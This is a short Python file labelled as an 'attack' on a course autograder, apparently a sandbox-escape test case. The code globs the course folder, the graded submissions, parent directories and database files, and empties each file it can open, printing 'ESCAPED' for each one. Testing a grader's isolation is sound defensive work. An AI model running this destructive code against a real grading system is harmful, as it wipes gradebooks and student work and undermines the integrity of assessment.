# attack: the gradebook, the ledger and the graded notebooks are deleted or emptied.
# target: heaviest-test
# destructive
# %% heaviest
import glob
import os

heaviest = "tree-000"
for path in glob.glob("@COURSE@/*") + glob.glob("@COURSE@/autograded/*/*/*") + glob.glob("../*") + glob.glob("../../*") + glob.glob("../../../*.db"):
    try:
        open(path, "r+").truncate()
        print("ESCAPED: emptied", path)
    except OSError:
        pass
